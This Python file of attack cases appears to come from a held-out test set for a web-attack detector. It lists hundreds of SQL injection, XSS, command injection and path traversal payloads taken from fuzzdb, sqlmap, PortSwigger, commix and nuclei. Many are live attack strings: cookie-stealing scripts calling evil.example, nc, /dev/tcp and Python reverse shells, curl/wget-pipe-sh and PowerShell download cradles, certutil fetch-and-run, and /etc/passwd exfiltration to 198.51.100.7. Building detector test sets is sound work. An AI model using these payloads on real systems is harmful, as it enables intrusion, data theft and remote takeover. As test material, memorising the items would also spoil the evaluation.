"""Attack cases for heldout22. Each entry: (mode, target, payload, source-tag).

mode: q  = query parameter (value URL-encoded by us)
      qr = query parameter, value already wire-encoded (evasion kept as-is)
      j  = JSON body field; target "path|field" ; field may be dotted (a.b) or [] for array
      f  = x-www-form-urlencoded field
      h  = header "path|Header-Name"
      c  = cookie "path|name"
      p  = raw path; target contains {} replaced by payload (raw)
      m  = multipart field "path|field"
      mf = multipart filename "path|field"
      jr = raw JSON body text given as payload (for JSON-escape evasions), target = path
"""
import json
from common import case, enc, query, form, multipart, jbody, MP_CT, JSON_CT, FORM_CT

FUZZDB = "fuzzdb-project/fuzzdb"
SQLMAP = "sqlmapproject/sqlmap data/xml/payloads + tamper/"
PSX = "PortSwigger XSS cheat sheet"
COMMIX = "commixproject/commix techniques"
NUCLEI = "projectdiscovery/nuclei-templates"
NOSQLWL = "cr0hn/nosqlinjection_wordlists"
BLACKFAN = "BlackFan/client-side-prototype-pollution"
SSPP = "server-side prototype pollution write-ups (KTH-LangSec, PortSwigger research, HoLyVieR nsec18)"

SQLI = [
    # fuzzdb attack-payloads/sql-injection/detect/xplatform.fuzz.txt
    ("q", "/api/v2/orders?status=shipped|customer_id", "1 or 1=1", FUZZDB),
    ("q", "/api/v2/products|sku", "x' AND 1=(SELECT COUNT(*) FROM tabname); --", FUZZDB),
    ("j", "/api/login|username", "admin' or '1'='1'--", FUZZDB),
    ("f", "/account/login|user", "hi') or ('a'='a", FUZZDB),
    ("q", "/api/search|q", "' union select 1,load_file('/etc/passwd'),1,1,1;", FUZZDB),
    ("h", "/api/v1/profile|X-Forwarded-For", "1' waitfor delay '0:0:10'--", FUZZDB),
    ("c", "/dashboard|session_region", "' or 'whatever' in ('whatever')", FUZZDB),
    ("j", "/api/users/lookup|email", "x' AND email IS NULL; --", FUZZDB),
    ("q", "/reports/sales|region", "'; exec master..xp_cmdshell 'ping 172.10.1.255'--", FUZZDB),
    ("f", "/cgi/admin|id", "1;(load_file(char(47,101,116,99,47,112,97,115,115,119,100))),1,1,1;", FUZZDB),
    ("q", "/api/items|id", "declare @s varchar(200) select @s = 0x77616974666F722064656C61792027303A303A31302700 exec(@s)", FUZZDB),
    ("j", "/api/v1/customers/search|name", "x' OR full_name LIKE '%Bob%", FUZZDB),
    ("q", "/api/catalog|category", "'; exec ('sel' + 'ect us' + 'er')", FUZZDB),
    ("h", "/api/v1/news|Referer", "https://news.example.com/?id=1' or 1 in (select @@version)--", FUZZDB),
    ("q", "/api/users|sort", "' group by userid having 1=1--", FUZZDB),
    ("j", "/api/auth|password", "' or 2 between 1 and 3", FUZZDB),
    ("f", "/legacy/login.asp|pass", "'; begin declare @var varchar(8000) set @var=':' select @var=@var+'+login+'/'+password+' ' from users where login > @var select @var as var into temp end --", FUZZDB),
    ("q", "/api/invoices|number", "1'||UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual))||'", FUZZDB),
    # sqlmap payloads (boolean_blind / error_based / time_blind / union / stacked), boundaries filled in
    ("q", "/api/v3/articles|id", "1) AND 8271=8271 AND (4322=4322", SQLMAP + " boolean_blind"),
    ("q", "/api/v3/articles|slug", "intro' AND 3421=3421 AND 'kQzT'='kQzT", SQLMAP + " boolean_blind"),
    ("j", "/api/v1/tickets|priority", "1 RLIKE (SELECT (CASE WHEN (5133=5133) THEN 1 ELSE 0x28 END))", SQLMAP + " boolean_blind"),
    ("q", "/shop/product|pid", "12 AND EXTRACTVALUE(6742,CONCAT(0x5c,0x7178707671,(SELECT (ELT(6742=6742,1))),0x716a766b71))", SQLMAP + " error_based"),
    ("j", "/api/cart/add|product_id", "7 AND UPDATEXML(1403,CONCAT(0x2e,0x71766a7a71,(SELECT (ELT(1403=1403,1))),0x7170707171),2045)", SQLMAP + " error_based"),
    ("q", "/api/pg/items|id", "3 AND 4120=CAST((CHR(113)||CHR(120)||CHR(118)||CHR(106)||CHR(113))||(SELECT (CASE WHEN (4120=4120) THEN 1 ELSE 0 END))::text||(CHR(113)||CHR(106)||CHR(122)||CHR(112)||CHR(113)) AS NUMERIC)", SQLMAP + " error_based PostgreSQL"),
    ("f", "/mssql/report.aspx|rid", "5 AND 2841 IN (SELECT (CHAR(113)+CHAR(118)+CHAR(112)+CHAR(106)+CHAR(113)+(SELECT (CASE WHEN (2841=2841) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)+CHAR(107)+CHAR(98)+CHAR(113)+CHAR(113)))", SQLMAP + " error_based MSSQL"),
    ("q", "/api/events|page", "1 AND (SELECT 6051 FROM (SELECT(SLEEP(5)))yWvO)", SQLMAP + " time_blind"),
    ("h", "/api/v2/me|User-Agent", "Mozilla/5.0' AND (SELECT 9012 FROM (SELECT(SLEEP(5)))bQwe)-- fTxa", SQLMAP + " time_blind --level 3 UA"),
    ("q", "/api/pg/search|term", "x');SELECT PG_SLEEP(5)--", SQLMAP + " stacked_queries"),
    ("j", "/api/oracle/lookup|code", "A1' AND 7311=DBMS_PIPE.RECEIVE_MESSAGE(CHR(72)||CHR(65)||CHR(100)||CHR(66),5) AND 'Tdsx'='Tdsx", SQLMAP + " time_blind Oracle"),
    ("q", "/api/mssql/users|uid", "1;WAITFOR DELAY '0:0:5'--", SQLMAP + " stacked_queries MSSQL"),
    ("q", "/api/news|cat", "-6394 UNION ALL SELECT NULL,NULL,CONCAT(0x716b717071,0x4d6b4a5a6d4c5a,0x71787a7a71),NULL-- -", SQLMAP + " union_query"),
    ("c", "/portal|uid", "2' UNION ALL SELECT NULL,CONCAT(0x7176627671,IFNULL(CAST(password AS NCHAR),0x20),0x7170767a71),NULL FROM users#", SQLMAP + " union_query"),
    ("q", "/api/sqlite/notes|id", "1 AND 8812=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))", SQLMAP + " time_blind SQLite"),
    ("j", "/api/v1/filters|value", "x\" AND 2313=(SELECT 2313 FROM PG_SLEEP(5)) AND \"aBcD\"=\"aBcD", SQLMAP + " time_blind PostgreSQL"),
    ("q", "/api/stats|year", "2024 AND GTID_SUBSET(CONCAT(0x7170787171,(SELECT (ELT(3331=3331,1))),0x716b7a6b71),3331)", SQLMAP + " error_based MySQL>=5.6"),
    ("q", "/api/h2/data|id", "1 ORDER BY 1-- -", SQLMAP + " union column probe"),
    # sqlmap tamper scripts applied
    ("q", "/api/list|id", "1/**/UNION/**/ALL/**/SELECT/**/NULL,username,password/**/FROM/**/users--", SQLMAP + " tamper=space2comment"),
    ("q", "/api/list|filter", "1 AND 9 NOT BETWEEN 0 AND 8 AND (SELECT 1 FROM users LIMIT 1)=1", SQLMAP + " tamper=between"),
    ("qr", "/api/list|id", "1%20%55%4E%49%4F%4E%20%53%45%4C%45%43%54%20%46%49%45%4C%44%20%46%52%4F%4D%20%54%41%42%4C%45", SQLMAP + " tamper=charencode"),
    ("q", "/api/v1/posts|author", "1 uNiOn SeLeCt NuLl,CoNcAt(UsEr(),0x3a,VeRsIoN()),NuLl-- -", SQLMAP + " tamper=randomcase"),
    ("q", "/api/v1/posts|id", "1/*!UNION*//*!ALL*//*!SELECT*//*!NULL*/,/*!CONCAT*/(0x71,/*!USER*/()),NULL#", SQLMAP + " tamper=versionedmorekeywords"),
    ("qr", "/api/profile|name", "admin%EF%BC%87%20OR%201=1--%20", SQLMAP + " tamper=apostrophemask"),
    ("qr", "/api/list|id", "1%20%u0055NION%20%u0053ELECT%20NULL,NULL--", SQLMAP + " tamper=charunicodeencode"),
    ("q", "/api/list|q", "1 %S%E%L%E%C%T %F%I%E%L%D %F%R%O%M %T%A%B%L%E", SQLMAP + " tamper=percentage"),
    ("qr", "/php/item.php|id", "1%bf%27%20OR%201=1--%20", SQLMAP + " tamper=unmagicquotes"),
    ("qr", "/api/mssql/find|name", "a'%01UNION%02SELECT%03NULL,name%04FROM%05sys.tables--", SQLMAP + " tamper=space2mssqlblank (illustrative)"),
    ("q", "/api/list|id", "1 /*!30874AND 2>1*/--", SQLMAP + " tamper=modsecurityversioned"),
    ("q", "/api/list|id", "1 AND GREATEST(ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1)),64)=64", SQLMAP + " tamper=greatest"),
    ("q", "/api/list|id", "1 && 1=1 && SLEEP(5)", SQLMAP + " tamper=symboliclogical"),
    ("q", "/api/list|user", "1 AND username LIKE 'admin' AND SUBSTR(password,1,1) LIKE 'a'", SQLMAP + " tamper=equaltolike"),
    ("qr", "/api/list|id", "1+UNION+ALL+SELECT+NULL%2CNULL%2Ctable_name+FROM+information_schema.tables--+", SQLMAP + " tamper=space2plus"),
    ("qr", "/api/list|id", "1%2527%2520OR%25201%253D1--%2520", "double URL encoding (Burp Intruder encode x2)"),
    ("qr", "/api/list|id", "1%20UNION%23xPqzWb%0ASELECT%23aBcD%0Auser,password%20FROM%20mysql.user--%20", SQLMAP + " tamper=space2morehash"),
    ("qr", "/api/list|id", "1%0AUNION%0ASELECT%0Auser%2Cpassword%0AFROM%0Amysql.user--", "newline whitespace evasion"),
    # JSON placements, JSON escapes, nested
    ("jr", "/api/v2/reports", '{"filters":{"region":"EMEA\\u0027 UNION SELECT card_number,cvv FROM payments--"},"format":"csv"}', "JSON unicode escape of quote"),
    ("jr", "/api/graphql", '{"query":"query($id: ID!){ order(id: $id){ id total } }","variables":{"id":"1 OR 1=1; DROP TABLE orders--"}}', "GraphQL variable SQLi"),
    ("j", "/api/v1/bulk|items[].sku", "SKU-1' AND SLEEP(5)#", "nested array field"),
    ("j", "/api/v1/search|sort.field", "created_at,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)", "ORDER BY injection (OWASP WSTG)"),
    ("j", "/api/v1/search|order", "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a' THEN name ELSE price END)", "ORDER BY injection (OWASP WSTG)"),
    ("m", "/upload/meta|title", "report' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--", "MSSQL error-based in multipart"),
    ("h", "/api/track|X-Forwarded-For", "127.0.0.1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),0x3a,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -", "header SQLi (logging sink)"),
    ("c", "/shop|cart_id", "abc'; UPDATE users SET role='admin' WHERE email='me@evil.test'--", "cookie stacked query"),
    ("p", "/api/v1/users/{}/orders", "1%20OR%201=1", "path segment SQLi"),
    ("p", "/api/v1/products/{}", "5'%20UNION%20SELECT%20NULL,version()--%20-", "path segment SQLi"),
    ("f", "/wp-admin/admin-ajax.php|order_id", "1) AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT user()),0x71))s), 8446744073709551610, 8446744073709551610)))-- x", "BIGINT overflow error-based (public write-up)"),
    ("q", "/api/list|id", "0x31 UNION SELECT @@version,@@datadir,3", "MySQL hex literal"),
    ("q", "/api/items|id", "1 AND ASCII(SUBSTRING((SELECT TOP 1 name FROM master..sysdatabases),1,1))>64", "blind substring (OWASP WSTG)"),
    ("q", "/api/feed|since", "2024-01-01' AND 1=(SELECT 1 FROM pg_sleep(5))::int AND ''='", "PostgreSQL cast time-based"),
    ("j", "/api/v1/coupons/redeem|code", "SAVE10'||(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)||'", "PostgreSQL concat time-based"),
    ("q", "/api/v1/export|table", "users; COPY (SELECT '') TO PROGRAM 'id'", "PostgreSQL COPY TO PROGRAM"),
    ("q", "/api/v1/ids|in", "1) UNION SELECT NULL,sqlite_version(),NULL--", "SQLite union"),
]

XSS = [
    # PortSwigger cheat sheet: event handlers, SVG/MathML, javascript: with entities
    ("q", "/search|q", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", PSX),
    ("j", "/api/v1/comments|body", "<details open ontoggle=alert(document.domain)>", PSX),
    ("q", "/api/v1/profile|bio", "<xss onfocus=alert(1) autofocus tabindex=1>", PSX),
    ("f", "/guestbook|message", "<body onpageshow=alert(1)>", PSX),
    ("j", "/api/v1/links|url", "javascript&colon;alert(1)", PSX),
    ("q", "/redirect|next", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)", PSX + " entity-encoded javascript:"),
    ("j", "/api/v1/cms/pages|html", "<a href=\"&#x6A;avascript:alert(1)\">click</a>", PSX),
    ("q", "/embed|content", "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>", PSX),
    ("j", "/api/v1/notes|content", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>Click</maction></math>", PSX + " MathML"),
    ("q", "/preview|svg", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click me</text></a></svg>", PSX),
    ("j", "/api/v1/themes|css_html", "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationstart=\"alert(1)\"></xss>", PSX),
    ("f", "/forum/post|text", "<video><source onerror=alert(1)>", PSX),
    ("q", "/api/v1/tags|name", "<input onauxclick=alert(1)>", PSX),
    ("j", "/api/v1/chat/messages|text", "<img src=x onerror=\\u0061lert(1)>", PSX + " unicode escape in handler"),
    ("q", "/search|q", "<script>\\u0061lert(1)</script>", PSX),
    ("q", "/search|term", "<svg onload=alert&#40;1&#41;>", PSX),
    ("j", "/api/v1/reviews|text", "<img src=1 onerror=alert`1`>", PSX + " template literal"),
    ("q", "/view|frame", "<object data=\"javascript:alert(1)\">", PSX),
    ("f", "/contact|comment", "<embed src=javascript:alert(1)>", PSX),
    ("j", "/api/v1/forms|label", "<form><button formaction=javascript:alert(1)>CLICK</button></form>", PSX),
    ("q", "/page|title", "<base href=\"javascript:/a/-alert(1)///////\"><a href=../lol/safari.html>test</a>", PSX),
    ("j", "/api/v1/products|description", "<svg><set attributeName=onmouseover to=alert(1) />", PSX),
    ("q", "/ng/search|q", "{{constructor.constructor('alert(1)')()}}", PSX + " AngularJS sandbox escape"),
    ("j", "/api/v1/widgets|template", "{{$on.constructor('alert(1)')()}}", PSX + " AngularJS 1.6+"),
    ("q", "/search|q", "<img src=x onerror=location='javascript:alert%281%29'>", PSX),
    ("q", "/search|q", "<a href=\"java&Tab;script:alert(1)\">x</a>", PSX + " named entity whitespace"),
    ("q", "/search|q", "<a href=\"\x01javascript:alert(1)\">x</a>", PSX + " leading control char"),
    ("j", "/api/v1/profile|website", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e", "0xsobky polyglot"),
    ("q", "/api/v1/events|callback", "<svg/onload=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>", "base64 eval"),
    ("q", "/api/v1/search|q", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>", "data: URI"),
    # fuzzdb html5sec injections
    ("j", "/api/v1/posts|body", "<form id=\"test\"></form><button form=\"test\" formaction=\"javascript:alert(1)\">X</button>", FUZZDB + " HTML5sec_Injections"),
    ("f", "/wiki/save|content", "<input onfocus=write(1) autofocus>", FUZZDB + " HTML5sec_Injections"),
    ("q", "/gallery|caption", "<video poster=javascript:alert(1)//></video>", FUZZDB + " HTML5sec_Injections"),
    ("j", "/api/v1/upload/svg|data", "<svg xmlns=\"http://www.w3.org/2000/svg\"><g onload=\"javascript:alert(1)\"></g></svg>", FUZZDB + " HTML5sec_Injections"),
    ("q", "/feed|item", "<script xmlns=\"http://www.w3.org/1999/xhtml\">&#x61;l&#x65;rt&#40;1)</script>", FUZZDB + " HTML5sec_Injections"),
    ("j", "/api/v1/docs|html", "<!--<img src=\"--><img src=x onerror=alert(1)//\">", FUZZDB + " HTML5sec_Injections"),
    ("q", "/comments|body", "<style><img src=\"</style><img src=x onerror=alert(1)//\">", FUZZDB + " HTML5sec_Injections"),
    ("j", "/api/v1/layouts|markup", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>", FUZZDB + " HTML5sec_Injections"),
    ("f", "/support/ticket|details", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>", FUZZDB + " HTML5sec_Injections"),
    ("q", "/search|q", "<body oninput=alert(1)><input autofocus>", FUZZDB + " HTML5sec_Injections"),
    ("j", "/api/v1/blocks|html", "<math href=\"javascript:alert(1)\">CLICKME</math>", FUZZDB + " HTML5sec_Injections"),
    ("q", "/search|q", "<img[a][b]src=x[d]onerror[c]=[e]\"alert(1)\">", FUZZDB + " HTML5sec_Injections"),
    ("q", "/search|q", "<!--[if]><script>alert(1)</script -->", FUZZDB + " HTML5sec_Injections"),
    ("j", "/api/v1/svg|markup", "<svg xmlns=\"http://www.w3.org/2000/svg\"><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">alert(1)</handler></svg>", FUZZDB + " HTML5sec_Injections"),
    # encodings and placements
    ("qr", "/search|q", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", "URL encoded"),
    ("qr", "/search|q", "%253Csvg%2520onload%253Dalert(1)%253E", "double URL encoded"),
    ("qr", "/search|q", "%uff1cscript%uff1ealert(1)%uff1c/script%uff1e", "IIS %u fullwidth"),
    ("q", "/search|q", "＜script＞alert(1)＜/script＞", "fullwidth angle brackets (normalising backends)"),
    ("jr", "/api/v1/messages", '{"channel":"C024BE91L","text":"\\u003cimg src=x onerror=alert(1)\\u003e"}', "JSON \\u003c escape"),
    ("jr", "/api/v1/profile", '{"display_name":"\\u003csvg/onload=fetch(`//evil.example/c?`+document.cookie)\\u003e","locale":"en-US"}', "JSON escape + exfil"),
    ("q", "/search|q", "\"><ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>", "mixed case breakout"),
    ("q", "/search|q", "'-alert(1)-'", "JS string breakout"),
    ("q", "/search|q", "</script><script>alert(1)</script>", "script context breakout"),
    ("q", "/api/v1/items|lang", "\"onmouseover=\"alert(1)", "attribute breakout"),
    ("q", "/search|q", "<img src=x oNeRrOr=confirm(1)>", "randomcase handler"),
    ("q", "/search|q", "<img/src=x\tonerror=alert(1)>", "tab separator"),
    ("q", "/search|q", "<svg\nonload=alert(1)>", "newline separator"),
    ("q", "/search|q", "<img src=x onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;(1)\">", "hex entities in handler"),
    ("h", "/api/v1/analytics|Referer", "https://shop.example/\"><script src=//evil.example/x.js></script>", "header stored XSS (admin log view)"),
    ("h", "/api/v1/analytics|User-Agent", "<script>new Image().src='//evil.example/?c='+document.cookie</script>", "UA stored XSS"),
    ("c", "/account|display_name", "<img src=x onerror=alert(1)>", "cookie reflected"),
    ("m", "/api/v1/avatar|alt", "<svg onload=alert(1)>", "multipart field"),
    ("mf", "/api/v1/files|file", "\"><img src=x onerror=alert(1)>.png", "multipart filename XSS"),
    ("p", "/u/{}/profile", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "path segment reflected"),
    ("j", "/api/v1/issues|fields.description", "[click](javascript:alert(document.domain))", "markdown javascript link"),
    ("j", "/api/v1/kanban/cards|labels[]", "<iframe src=javascript:alert(1)>", "nested array"),
    ("q", "/search|q", "<marquee onstart=alert(1)>x</marquee>", PSX),
    ("q", "/search|q", "<audio src/onerror=alert(1)>", PSX),
    ("j", "/api/v1/newsletter|html", "<table background=\"javascript:alert(1)\"></table>", FUZZDB + " HTML5sec_Injections"),
    ("q", "/search|q", "<select autofocus onfocus=alert(1)>", PSX),
    ("q", "/search|q", "<textarea autofocus onfocus=alert(1)>", PSX),
    ("q", "/search|q", "<keygen autofocus onfocus=alert(1)>", PSX),
]

CMDI = [
    # fuzzdb attack/os-cmd-execution/command-execution-unix.txt
    ("q", "/api/v1/tools/ping|host", "127.0.0.1;id", FUZZDB),
    ("j", "/api/v1/diagnostics/traceroute|target", "8.8.8.8|/usr/bin/id", FUZZDB),
    ("f", "/cgi-bin/nslookup.cgi|domain", "example.com`id`", FUZZDB),
    ("qr", "/api/v1/convert|file", "report.pdf;system('cat%20/etc/passwd')", FUZZDB),
    ("qr", "/api/v1/tools/ping|host", "127.0.0.1%0Acat%20/etc/passwd", FUZZDB),
    ("j", "/api/v1/network/check|ip", "10.0.0.1 & ping -i 30 127.0.0.1 &", FUZZDB),
    ("q", "/api/v1/whois|q", "a);/usr/bin/id;", FUZZDB),
    ("f", "/admin/backup|filename", "backup.tgz||/usr/bin/id;", FUZZDB),
    ("m", "/api/v1/thumbnail|resize", "100x100;id|", FUZZDB),
    ("j", "/api/v1/ssi|template", "<!--#exec cmd=\"/usr/bin/id\"-->", FUZZDB + " SSI"),
    # fuzzdb command-injection-template.txt with CMD=$'...'
    ("q", "/api/v1/dns|name", "x;CMD=$'cat /etc/passwd';$CMD", FUZZDB + " template"),
    ("j", "/api/v1/jobs|args", "--verbose&&CMD=$\"whoami\";$CMD", FUZZDB + " template"),
    ("q", "/api/v1/run|arg", "FAIL||uname -a", FUZZDB + " template"),
    ("qr", "/api/v1/run|arg", "%0Duname%20-a%0D", FUZZDB + " template"),
    # commix techniques
    ("q", "/api/v1/ping|addr", "127.0.0.1;echo QWERTY$((84+27))$(echo QWERTY)QWERTY", COMMIX + " classic"),
    ("j", "/api/v1/hooks/test|url", "http://x.test/;str=$(echo NVCYKZ);str1=${#str};if [ 6 -ne ${str1} ];then sleep 0;else sleep 5;fi", COMMIX + " time-based"),
    ("q", "/api/v1/lookup|host", "example.org|echo IHJKQW$((21+33))$(echo IHJKQW)IHJKQW", COMMIX + " classic pipe"),
    ("f", "/device/config|ntp_server", "pool.ntp.org;echo 'GZQJAS' > /var/www/html/GZQJAS.txt", COMMIX + " file-based"),
    ("q", "/api/v1/eval|expr", "1;print(`id`)", COMMIX + " eval-based"),
    ("j", "/api/v1/calc|expression", "${@print(system('id'))}", COMMIX + " eval-based PHP"),
    ("qr", "/api/v1/ping|addr", "127.0.0.1%26%26sleep${IFS}5", COMMIX + " IFS"),
    ("h", "/cgi-bin/status|User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'", "Shellshock CVE-2014-6271 (nuclei)"),
    ("h", "/cgi-bin/test.cgi|Referer", "() { ignored; }; echo Content-Type: text/plain; echo; /usr/bin/id", "Shellshock (nuclei)"),
    # evasions (PayloadsAllTheThings-independent, well-known bash tricks)
    ("q", "/api/v1/files/preview|name", "a.txt;c''at /e\"\"tc/pa''sswd", "quote splitting"),
    ("q", "/api/v1/files/preview|name", "a.txt;/???/??t /???/p??s??", "glob wildcards"),
    ("j", "/api/v1/archive|path", "docs;{cat,/etc/passwd}", "brace expansion"),
    ("q", "/api/v1/tools|host", "1.1.1.1;cat$IFS/etc/passwd", "$IFS"),
    ("q", "/api/v1/tools|host", "1.1.1.1;$(printf '\\x69\\x64')", "printf hex"),
    ("j", "/api/v1/tasks|command_arg", "--help;echo aWQ= | base64 -d | sh", "base64 decode pipe sh"),
    ("q", "/api/v1/tools|host", "1.1.1.1;w'h'o'am'i", "quote splitting"),
    ("q", "/api/v1/tools|host", "1.1.1.1;who$@ami", "$@ splitting"),
    ("q", "/api/v1/tools|host", "1.1.1.1;\\u\\n\\a\\m\\e -a", "backslash splitting"),
    ("q", "/api/v1/tools|host", "$(curl -s http://attacker.example/x.sh|sh)", "subshell download"),
    ("j", "/api/v1/webhooks|target", "https://ok.example/`wget -qO- http://198.51.100.7/s|sh`", "backtick download"),
    ("q", "/api/v1/tools|host", "127.0.0.1;nc -e /bin/sh 198.51.100.7 4444", FUZZDB + " reverse-shell-one-liners"),
    ("j", "/api/v1/notify|recipient", "a@b.c;bash -i >& /dev/tcp/198.51.100.7/8080 0>&1", FUZZDB + " reverse-shell-one-liners"),
    ("f", "/router/apply.cgi|wan_hostname", "x;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 1234 >/tmp/f", FUZZDB + " reverse-shell-one-liners"),
    ("j", "/api/v1/scripts|interpreter_args", "-c \"import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.7',9001));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\";", FUZZDB + " reverse-shell-one-liners python"),
    ("q", "/api/v1/git/clone|repo", "--upload-pack=touch /tmp/pwned", "git argument injection"),
    ("j", "/api/v1/media/transcode|input", "-i x.mp4 -f null /dev/null; curl http://198.51.100.7/$(hostname)", "ffmpeg arg + chaining"),
    ("q", "/api/v1/tools|host", "127.0.0.1\n/bin/ls -al", "raw newline"),
    ("c", "/panel|lang", "en;id", "cookie"),
    ("h", "/api/v1/upload|X-Forwarded-For", "127.0.0.1;curl http://198.51.100.7/`whoami`", "header OOB"),
    ("p", "/api/v1/hosts/{}/ping", "127.0.0.1;id", "path segment"),
    ("m", "/api/v1/images/convert|options", "-resize 50% x.png; curl -d @/etc/passwd http://198.51.100.7/", "multipart (ImageMagick wrapper)"),
    ("mf", "/api/v1/import|file", "data.csv;sleep 10;.csv", "multipart filename"),
    # Windows (fuzzdb Commands-Windows / WindowsPowershell)
    ("q", "/api/v1/win/ping|host", "127.0.0.1 & whoami", FUZZDB + " Commands-Windows"),
    ("j", "/api/v1/win/share|path", "C:\\share | type C:\\windows\\win.ini", FUZZDB + " Commands-Windows"),
    ("q", "/api/v1/win/run|arg", "x && powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\"", FUZZDB + " WindowsPowershell"),
    ("f", "/iis/tools.aspx|target", "x | net user hacker P@ss123 /add", FUZZDB + " Commands-Windows"),
    ("q", "/api/v1/win/run|arg", "x & certutil -urlcache -split -f http://198.51.100.7/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe", "LOLBAS certutil"),
    ("j", "/api/v1/win/exec|cmd_args", "1 & p^o^w^e^r^s^h^e^l^l -enc SQBFAFgA", "caret obfuscation"),
    # Node/Python/Ruby code sinks labelled cmdi (command execution)
    ("j", "/api/v1/sandbox/eval|code_expr", "require('child_process').execSync('id').toString()", "Node eval RCE"),
    ("q", "/api/v1/render|tpl", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "Jinja2 SSTI -> os.popen"),
    ("j", "/api/v1/report|title", "${T(java.lang.Runtime).getRuntime().exec('id')}", "Spring EL -> Runtime.exec"),
    ("f", "/goform/setSysAdm|admuser", "admin;/bin/busybox telnetd -l /bin/sh -p 9999;", NUCLEI + " router RCE (IoT botnet style)"),
    ("q", "/api/v1/ping|addr", "127.0.0.1|| ping -c 10 198.51.100.7", "blind OOB"),
    ("q", "/api/v1/ping|addr", "127.0.0.1;$(sleep 5)", "commix time-based simplified"),
]

TRAVERSAL = [
    # fuzzdb attack/path-traversal/traversals-8-deep-exotic-encoding.txt
    ("p", "/static{}", "/%25c0%25ae%25c0%25ae/%25c0%25ae%25c0%25ae/%25c0%25ae%25c0%25ae/%25c0%25ae%25c0%25ae/etc/passwd", FUZZDB + " exotic (overlong UTF-8, double-encoded)"),
    ("p", "/files{}", "/..%25c0%25af..%25c0%25af..%25c0%25af..%25c0%25afetc/passwd", FUZZDB + " exotic"),
    ("p", "/assets{}", "/%%32%65%%32%65%%32%66%%32%65%%32%65%%32%66%%32%65%%32%65%%32%66etc/passwd", FUZZDB + " exotic (%%32%65)"),
    ("p", "/download{}", "/..%%35%63..%%35%63..%%35%63windows/win.ini", FUZZDB + " exotic"),
    ("p", "/img{}", "////%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd", FUZZDB + " exotic"),
    ("p", "/res{}", "/\\\\\\%2e%2e%5c%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini", FUZZDB + " exotic"),
    ("qr", "/api/v1/files|name", "..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", FUZZDB + " exotic overlong"),
    ("qr", "/api/v1/files|name", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow", FUZZDB + " exotic overlong"),
    ("qr", "/api/v1/files|name", "..%c1%9c..%c1%9c..%c1%9cboot.ini", FUZZDB + " exotic overlong backslash"),
    ("q", "/api/v1/files|name", "0x2e0x2e/0x2e0x2e/0x2e0x2e/etc/passwd", FUZZDB + " exotic 0x2e (literal)"),
    # fuzzdb path-traversal-windows
    ("q", "/api/v1/docs|file", "..\\..\\..\\..\\windows\\win.ini", FUZZDB + " path-traversal-windows"),
    ("j", "/api/v1/export|template", "..\\..\\..\\..\\..\\boot.ini", FUZZDB + " path-traversal-windows"),
    ("q", "/api/v1/logs|path", "C:\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts", FUZZDB + " path-traversal-windows"),
    # nuclei templates
    ("p", "/cgi-bin{}", "/.%2e/.%2e/.%2e/.%2e/etc/passwd", NUCLEI + " CVE-2021-41773 Apache"),
    ("p", "/cgi-bin{}", "/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd", NUCLEI + " CVE-2021-42013 Apache"),
    ("p", "/public/plugins/alertlist{}", "/../../../../../../../../etc/passwd", NUCLEI + " CVE-2021-43798 Grafana"),
    ("p", "/public/plugins/welcome{}", "/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", NUCLEI + " CVE-2021-43798 Grafana encoded"),
    ("p", "/app{}", "/..;/..;/..;/WEB-INF/web.xml", NUCLEI + " Tomcat/Spring path parameter"),
    ("p", "/static{}", "/..%252f..%252f..%252f..%252fetc%252fpasswd", NUCLEI + " double encoding"),
    ("qr", "/jolokia/read|p", "..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd", NUCLEI + " generic-linux-lfi"),
